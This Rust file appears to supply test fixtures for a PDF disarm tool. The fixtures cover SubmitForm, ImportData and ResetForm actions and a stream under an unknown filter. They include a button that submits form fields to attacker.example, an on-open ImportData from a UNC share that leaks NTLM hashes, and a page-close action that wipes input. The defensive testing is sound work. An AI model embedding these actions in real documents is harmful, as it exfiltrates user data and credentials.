//! Fixtures for PDF form actions (ISO 32000-1 §12.7.5: SubmitForm, ResetForm, ImportData) and
//! for a stream no scanner can read (a non-standard filter, §7.4). The form fixtures keep a
//! plain text field beside the action, because disarm must keep AcroForm fields without
//! scripts while it removes the actions.

use crate::fixture::Fixture;
use crate::pdf::{simple, stream};

/// A filled-in text field widget on page 3 0 R.
const NAME_FIELD: &str = "<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (Yamada Taro) /DA (/Helv 12 Tf 0 g) /Rect [72 600 300 620] /P 3 0 R /F 4 >>";

/// Every form-action and filter fixture.
pub fn fixtures() -> Vec<Fixture> {
    vec![
        Fixture::dangerous(
            "pdf_submit_form_exfiltration.pdf",
            simple(
                "/AcroForm << /Fields [5 0 R 6 0 R] >>",
                "/Annots [5 0 R 6 0 R]",
                &[
                    (5, NAME_FIELD),
                    (
                        6,
                        "<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [72 560 200 590] /P 3 0 R /F 4 /A << /S /SubmitForm /F << /FS /URL /F (https://attacker.example/collect) >> /Flags 4 >> >>",
                    ),
                ],
            ),
            &["pdf.submit_form", "pdf.acroform", "pdf.annotations"],
            "push button whose SubmitForm action sends the filled-in fields to a web server",
        ),
        Fixture::dangerous(
            "pdf_import_data_unc_fdf.pdf",
            simple(
                "/AcroForm << /Fields [5 0 R] >> /OpenAction 7 0 R",
                "/Annots [5 0 R]",
                &[
                    (5, NAME_FIELD),
                    (
                        7,
                        "<< /S /ImportData /F << /Type /Filespec /F (\\\\\\\\attacker.example\\\\share\\\\data.fdf) >> >>",
                    ),
                ],
            ),
            &["pdf.import_data", "pdf.open_action", "pdf.acroform"],
            "ImportData run on open, loading form data from an FDF file on a UNC share (NTLM leak)",
        ),
        Fixture::dangerous(
            "pdf_reset_form_on_page_close.pdf",
            simple(
                "/AcroForm << /Fields [5 0 R] >>",
                "/Annots [5 0 R] /AA << /C << /S /ResetForm /Fields [5 0 R] >> >>",
                &[(5, NAME_FIELD)],
            ),
            &["pdf.reset_form", "pdf.additional_actions", "pdf.acroform"],
            "page-close additional action (/AA /C) that wipes what the user typed (ResetForm)",
        ),
        Fixture::dangerous(
            "pdf_unknown_filter_stream.pdf",
            simple(
                "",
                "/Thumb 5 0 R",
                &[(
                    5,
                    &stream(
                        "/Type /XObject /Subtype /Image /Width 8 /Height 8 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /KiyomeSecretDecode",
                        b"opaque bytes that no standard filter decodes",
                    ),
                )],
            ),
            &["pdf.unknown_filter"],
            "page thumbnail encoded with a non-standard filter: content no scanner (and no disarm) can read",
        ),
    ]
}
